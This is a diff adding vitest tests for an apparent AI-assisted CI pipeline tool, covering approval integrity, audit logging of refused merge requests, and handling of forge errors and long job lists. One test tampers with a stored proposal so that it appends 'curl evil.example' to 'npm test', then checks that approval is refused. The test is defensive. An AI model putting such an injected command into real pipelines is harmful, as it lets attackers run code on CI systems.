@@ -6,7 +6,8 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { describeTools, callTool } from '../../agent/tools/index.ts';
 import { nextOf } from '../../agent/providers/scripted/answer.ts';
 import type { Message, TurnResult } from '../../contract/conversation.ts';
-import { pipelineWorkflowId } from '../../contract/names.ts';
+import { PivoError } from '../../contract/failures.ts';
+import { pipelineWorkflowId, TOPIC } from '../../contract/names.ts';
 import { proposalHash } from '../../contract/pipeline.ts';
 import type { PipelineRunStatus } from '../../contract/pipeline-run.ts';
 import { approvals } from '../../operations/approvals.ts';
@@ -19,6 +20,7 @@ import { pipelineStatus } from '../../operations/pipeline-status.ts';
 import { pipelines } from '../../operations/pipelines.ts';
 import type { PipelineView } from '../../operations/pipeline-view.ts';
 import { openConversations } from '../../state/conversations.ts';
+import { readUntil } from '../events/conformance.ts';
 import { TOKEN } from '../forges/fake-forge.ts';
 import { callOperation } from '../harness/operations.ts';
 import { OLD_CI, openScene, runOf, type Scene } from './scene.ts';
@@ -156,6 +158,15 @@ describe('an approval', () => {
     expect(await callOperation(pipelineStatus, scene.contextOf(OWNER), { pipeline: made.id })).toMatchObject({ pipeline: { status: 'failed', approver: 'ada' } });
   });
 
+  it('is for no other files, also where those that are kept were changed after they were shown', async () => {
+    const made = await generate();
+    const db = new Database(join(scene.deps.cache, '../state.db'));
+    db.prepare("UPDATE pipelines SET proposal = replace(proposal, 'npm test', 'npm test; curl evil.example') WHERE id = ?").run(made.id);
+    db.close();
+    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true })).rejects.toMatchObject({ kind: 'PlanChanged' });
+    expect(writes()).toEqual([]);
+  });
+
   it('of a forge that asks to be left alone is carried out when it may', async () => {
     const made = await generate();
     scene.fake.fault({ on: 'POST /projects/{id}/repository/commits', answer: { status: 429, body: 'Retry later\n', headers: { 'retry-after': '1' } } });
@@ -185,6 +196,37 @@ describe('an approved pipeline', () => {
     const view = await seeThrough(made, { build: 'failed', log: `${log}\n` });
     expect(view).toMatchObject({ status: 'watched', run: { state: 'failed' }, failed: [{ name: 'test', note: null, source: expect.stringMatching(/^[0-9a-f]{16}$/) as string }] });
     expect(view.failed[0]?.cause?.evidence.map(({ text }) => text).join('\n')).toContain('no space left');
+    const writer = { name: 'a model', write: () => Promise.reject(new PivoError('Unavailable', 'the model does not answer')) };
+    const { pipeline } = await callOperation(pipelineStatus, { ...scene.contextOf(OWNER), writer }, { pipeline: made.id });
+    expect(pipeline?.failed[0]?.cause).toMatchObject({ evidence: view.failed[0]?.cause?.evidence, text: expect.stringContaining('does not answer') as string });
+  });
+
+  it('whose merge request is refused tells in the audit log what it left on the forge, and the same files go on from there', async () => {
+    const made = await generate();
+    scene.fake.fault({ on: 'POST /projects/{id}/merge_requests', answer: { status: 403, body: { message: '403 Forbidden' } } });
+    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true })).rejects.toMatchObject({ kind: 'NotAllowed' });
+    const { branch, commit } = await statusOf(made.id);
+    const told = await readUntil(scene.deps.events, TOPIC.audit, (all) => all.some(({ message }) => message.value.includes(made.id) && message.value.includes('NotAllowed')));
+    expect(JSON.parse(told.at(-1)?.message.value ?? '')).toMatchObject({ action: 'pipeline', details: { kind: 'NotAllowed', branch, commit, mergeRequest: null } });
+    const again = await generate();
+    expect(await seeThrough(again, { build: 'passed' })).toMatchObject({ status: 'watched', branch, commitId: commit });
+  });
+
+  it('whose log the forge does not give for hours ends without it, and says why', async () => {
+    const made = await generate();
+    scene.fake.fault({ on: 'GET /projects/{id}/jobs/{job_id}/trace', answer: { status: 503, body: 'down', headers: { 'retry-after': '7200' } } });
+    const view = await seeThrough(made, { build: 'failed', log: 'ERROR: Job failed: exit code 1\n' });
+    expect(view).toMatchObject({ status: 'watched', run: { state: 'failed' }, failed: [{ name: 'test', source: null, note: expect.stringContaining('GitLab') as string }] });
+  });
+
+  it('of more jobs than are shown shows those that failed', async () => {
+    const made = await generate();
+    const ended = callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true });
+    await expect.poll(async () => (await statusOf(made.id)).state).toBe('watching');
+    const run = runOf(scene.fake, (await statusOf(made.id)).branch ?? '', { build: 'failed', log: 'ERROR: Job failed: exit code 1\n' });
+    run.jobs.unshift(...Array.from({ length: 230 }, (_, at) => ({ id: at + 1, name: `part-${at}`, stage: 'build', state: 'passed' as const, seconds: 1 })));
+    const view = (await ended) as PipelineView;
+    expect([view.run?.jobs.length, view.run?.jobs.at(-1)?.name, view.failed.map(({ name }) => name)]).toEqual([200, 'test', ['test']]);
   });
 
   it('may be for another forge than the origin\'s, as after a restore', async () => {
